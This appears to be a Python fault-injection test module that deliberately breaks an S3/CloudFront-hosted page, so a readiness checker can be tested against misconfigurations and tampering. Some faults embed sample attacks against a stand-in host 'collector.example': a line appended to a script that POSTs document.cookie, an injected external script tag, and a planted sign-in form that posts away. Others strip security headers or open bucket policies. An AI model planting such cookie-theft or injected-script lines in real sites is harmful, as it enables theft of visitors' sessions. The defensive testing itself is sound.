"""Faults of the hosted page."""

from __future__ import annotations

import json
import re
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from http import HTTPStatus
from typing import Any
from urllib.parse import urlsplit

from readiness.probes.cdn import Cdn
from tests.faults.bench import Bench
from tests.faults.fault import fault

SITE, BUCKET = "SiteDistribution", "SiteBucket"

# The page, as it is served


@contextmanager
def _stored(bench: Bench, key: str, **changes: Any) -> Iterator[None]:
    """An object of the page with other content or headers, gone from the edges' memory before and after."""
    client, bucket = bench.client("s3"), bench.physical(BUCKET)
    answer = client.get_object(Bucket=bucket, Key=key)
    before = {name: answer[name] for name in ("ContentType", "CacheControl")} | {
        "Body": answer["Body"].read()
    }
    client.put_object(Bucket=bucket, Key=key, **{**before, **changes})
    _forget(bench)
    try:
        yield
    finally:
        client.put_object(Bucket=bucket, Key=key, **before)
        _forget(bench)


def _forget(bench: Bench) -> None:
    batch = {"CallerReference": uuid.uuid4().hex, "Paths": {"Quantity": 1, "Items": ["/*"]}}
    bench.client("cloudfront").create_invalidation(
        DistributionId=bench.physical(SITE), InvalidationBatch=batch
    )


def _text(bench: Bench, key: str) -> str:
    answer = bench.client("s3").get_object(Bucket=bench.physical(BUCKET), Key=key)
    return str(answer["Body"].read().decode())


def _script(bench: Bench) -> str:
    """The key of a script that the page names."""
    found = re.search(r"/(assets/[^\"]+\.js)", _text(bench, "index.html"))
    assert found, "the fault no longer fits: the page names no script"
    return found[1]


@fault("CDN-15", "the page answers its own address alone")
def no_page_for_deep_links(bench: Bench) -> Iterator[None]:
    def remove(configuration: dict[str, Any]) -> None:
        configuration["CustomErrorResponses"] = {"Quantity": 0}

    with bench.distribution_changed(remove, SITE):
        yield


@fault("CDN-15", "browsers may keep the page for an hour", relatives={"CDN-16"})
def kept_page(bench: Bench) -> Iterator[None]:
    with _stored(bench, "index.html", CacheControl="public, max-age=3600"):
        yield


@fault("CDN-15", "browsers may keep a script of the page for a minute", relatives={"CDN-16"})
def short_lived_script(bench: Bench) -> Iterator[None]:
    with _stored(bench, _script(bench), CacheControl="public, max-age=60"):
        yield


@fault("CDN-15", "a script that the page names is gone", relatives={"CDN-16"})
def lost_script(bench: Bench) -> Iterator[None]:
    key = _script(bench)
    with _stored(bench, key):
        bench.client("s3").delete_object(Bucket=bench.physical(BUCKET), Key=key)
        _forget(bench)
        yield


@fault("CDN-15", "a script that the page names is in the cache alone", relatives={"CDN-16"})
def cached_script(bench: Bench) -> Iterator[None]:
    key = _script(bench)
    with _stored(bench, key):
        site = Cdn(bench.env, urlsplit(bench.stack.formation.output("SiteUrl")).netloc)
        assert site.get(f"/{key}").status == HTTPStatus.OK
        bench.client("s3").delete_object(Bucket=bench.physical(BUCKET), Key=key)
        yield


@fault(
    "CDN-15",
    "no page was ever published",
    relatives={"CDN-09", "CDN-16", "CDN-17", "SEC-10", "SEC-12", "SEC-13"},
)
def no_page(bench: Bench) -> Iterator[None]:
    client, bucket = bench.client("s3"), bench.physical(BUCKET)
    keys = bench.stack.site_bucket.keys("")
    kept = {key: client.get_object(Bucket=bucket, Key=key) for key in keys}
    before = {
        key: {
            "Body": answer["Body"].read(),
            **{name: answer[name] for name in ("ContentType", "CacheControl")},
        }
        for key, answer in kept.items()
    }
    for key in before:
        client.delete_object(Bucket=bucket, Key=key)
    _forget(bench)
    try:
        yield
    finally:
        for key, stored in before.items():
            client.put_object(Bucket=bucket, Key=key, **stored)
        _forget(bench)


@fault("CDN-15", "a source map lies beside the page's script", relatives={"CDN-17"})
def source_map(bench: Bench) -> Iterator[None]:
    client, bucket, key = bench.client("s3"), bench.physical(BUCKET), f"{_script(bench)}.map"
    client.put_object(Bucket=bucket, Key=key, Body=b"{}")
    try:
        yield
    finally:
        client.delete_object(Bucket=bucket, Key=key)


# The page, held against what the commit builds


@fault("CDN-16", "the page's script was replaced under its own name")
def replaced_script(bench: Bench) -> Iterator[None]:
    key = _script(bench)
    sent = "fetch('https://collector.example/', {method: 'POST', body: document.cookie});"
    with _stored(bench, key, Body=f"{_text(bench, key)}\n{sent}".encode()):
        yield


@fault("CDN-16", "the page loads one script more")
def one_script_more(bench: Bench) -> Iterator[None]:
    html = _text(bench, "index.html")
    assert "</body>" in html, "the fault no longer fits: the page has no body"
    more = html.replace("</body>", '<script src="https://collector.example/a.js"></script></body>')
    with _stored(bench, "index.html", Body=more.encode()):
        yield


@fault("CDN-16", "a part that the page loads later has another type")
def wrong_type(bench: Bench) -> Iterator[None]:
    with _stored(bench, _later_part(bench), ContentType="text/plain"):
        yield


@fault("CDN-16", "a part that the page loads later is kept for a minute")
def short_lived_part(bench: Bench) -> Iterator[None]:
    with _stored(bench, _later_part(bench), CacheControl="public, max-age=60"):
        yield


@fault("CDN-16", "an icon is another picture")
def other_icon(bench: Bench) -> Iterator[None]:
    with _stored(bench, "favicon.svg", Body=b'<svg xmlns="http://www.w3.org/2000/svg"/>'):
        yield


@fault("CDN-16", "an edge still has a script that was replaced, and the bucket has the good one")
def replaced_script_in_the_cache(bench: Bench) -> Iterator[None]:
    client, bucket, key = bench.client("s3"), bench.physical(BUCKET), _later_part(bench)
    good = _text(bench, key).encode()
    with _stored(bench, key, Body=b"export default () => null;"):
        site = Cdn(bench.env, urlsplit(bench.stack.formation.output("SiteUrl")).netloc)
        assert site.get(f"/{key}").status == HTTPStatus.OK
        head = client.head_object(Bucket=bucket, Key=key)
        headers = {name: head[name] for name in ("ContentType", "CacheControl")}
        client.put_object(Bucket=bucket, Key=key, Body=good, **headers)
        yield


def _later_part(bench: Bench) -> str:
    """The key of a script that index.html does not name, and this build has."""
    (part,) = (bench.checkout.app / "frontend" / "dist" / "assets").glob("GalleryPage-*.js")
    return f"assets/{part.name}"


@contextmanager
def _beside(bench: Bench, key: str, body: bytes, content_type: str) -> Iterator[None]:
    client, bucket = bench.client("s3"), bench.physical(BUCKET)
    client.put_object(Bucket=bucket, Key=key, Body=body, ContentType=content_type)
    try:
        yield
    finally:
        client.delete_object(Bucket=bucket, Key=key)
        _forget(bench)


# Beside other code of a function, the page may be of that other commit.
@fault(
    "CDN-17",
    "somebody's page lies beside the page",
    apart_from={
        *("CDN-06", "CDN-07", "CODE-08", "CODE-10", "CODE-11", "CODE-12", "CODE-13", "CODE-17", "CODE-20"),
        *("CONF-04", "CONF-14", "INF-10", "INF-11", "SEC-14", "SEC-15", "SEC-24"),
    },
)
def foreign_page(bench: Bench) -> Iterator[None]:
    with _beside(bench, "account/sign-in.html", b"<form action=//collector.example>", "text/html"):
        yield


@fault("CDN-17", "a script lies beside the page's, named as a build would name it")
def foreign_script(bench: Bench) -> Iterator[None]:
    time.sleep(1.1)  # S3 tells when something was stored to the second
    with _beside(bench, "assets/vendor-Bq3x9LkT.js", b"export {};", "text/javascript; charset=utf-8"):
        yield


# The page, as the images: what is claimed of the one bucket and distribution is claimed of the other


@fault(
    "CDN-01",
    "the page's distribution is disabled",
    relatives={"CDN-03", "CDN-09", "CDN-15", "CDN-16", "SEC-13"},
)
def disabled_page(bench: Bench) -> Iterator[None]:
    with bench.distribution_changed(lambda configuration: configuration.update(Enabled=False), SITE):
        yield


def _behaviour(**settings: Any) -> Any:
    return lambda configuration: configuration["DefaultCacheBehavior"].update(settings)


@fault("CDN-03", "the page is served over plain HTTP")
def plain_page(bench: Bench) -> Iterator[None]:
    with bench.distribution_changed(_behaviour(ViewerProtocolPolicy="allow-all"), SITE):
        yield


@fault("CDN-13", "writes to the page are let through")
def writable_page(bench: Bench) -> Iterator[None]:
    methods = ["GET", "HEAD", "OPTIONS", "PUT", "POST", "PATCH", "DELETE"]
    cached = {"Quantity": 2, "Items": ["GET", "HEAD"]}
    allowed = {"Quantity": len(methods), "Items": methods, "CachedMethods": cached}
    with bench.distribution_changed(_behaviour(AllowedMethods=allowed), SITE):
        yield


@fault("SEC-07", "the API does not answer the page that this stack hosts")
def page_without_api(bench: Bench) -> Iterator[None]:
    client, api = bench.client("apigatewayv2"), bench.physical("HttpApi")
    before = client.get_api(ApiId=api)["CorsConfiguration"]
    site = bench.stack.formation.output("SiteUrl")
    others = [origin for origin in before["AllowOrigins"] if origin != site]
    client.update_api(ApiId=api, CorsConfiguration={**before, "AllowOrigins": others})
    try:
        yield
    finally:
        client.update_api(ApiId=api, CorsConfiguration=before)


@fault("SEC-10", "the page's bucket may be opened by a policy")
def open_page(bench: Bench) -> Iterator[None]:
    with bench.opened("BlockPublicPolicy", of=BUCKET):
        yield


@fault("SEC-12", "the page's bucket answers over plain HTTP")
def plain_page_bucket(bench: Bench) -> Iterator[None]:
    def without_denials(statements: list[dict[str, Any]]) -> None:
        statements[:] = [statement for statement in statements if statement["Effect"] == "Allow"]

    with bench.bucket_policy(without_denials, BUCKET):
        yield


@fault("SEC-13", "the page is sent without security headers")
def bare_page_headers(bench: Bench) -> Iterator[None]:
    def detach(configuration: dict[str, Any]) -> None:
        configuration["DefaultCacheBehavior"].pop("ResponseHeadersPolicyId", None)

    with bench.distribution_changed(detach, SITE):
        yield


@fault("SEC-13", "the page may talk to everybody", relatives={"CDN-16"})
def page_without_policy(bench: Bench) -> Iterator[None]:
    bare = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", _text(bench, "index.html"))
    with _stored(bench, "index.html", Body=bare.encode()):
        yield


@fault("SEC-17", "the page's distribution has no web ACL")
def unguarded_page(bench: Bench) -> Iterator[None]:
    with bench.distribution_changed(lambda configuration: configuration.update(WebACLId=""), SITE):
        yield


@fault("SEC-19", "another distribution may read the page's bucket too")
def second_reader_of_the_page(bench: Bench) -> Iterator[None]:
    def let_in(statements: list[dict[str, Any]]) -> None:
        text = json.dumps(next(statement for statement in statements if statement["Effect"] == "Allow"))
        statements.append(json.loads(text.replace(bench.physical(SITE), "E1STRANGER0000")))

    with bench.bucket_policy(let_in, BUCKET):
        yield


@fault("SEC-20", "the page's distribution uses CloudFront's own certificate")
def default_certificate_of_the_page(bench: Bench) -> Iterator[None]:
    own = {
        "CloudFrontDefaultCertificate": True,
        "SSLSupportMethod": "vip",
        "MinimumProtocolVersion": "TLSv1",
        "CertificateSource": "cloudfront",
    }
    with bench.distribution_changed(lambda configuration: configuration.update(ViewerCertificate=own), SITE):
        yield


@fault("INF-19", "the page's distribution writes no access log")
def no_log_of_the_page(bench: Bench) -> Iterator[None]:
    def stop(configuration: dict[str, Any]) -> None:
        configuration["Logging"].update(Enabled=False)

    with bench.distribution_changed(stop, SITE):
        yield
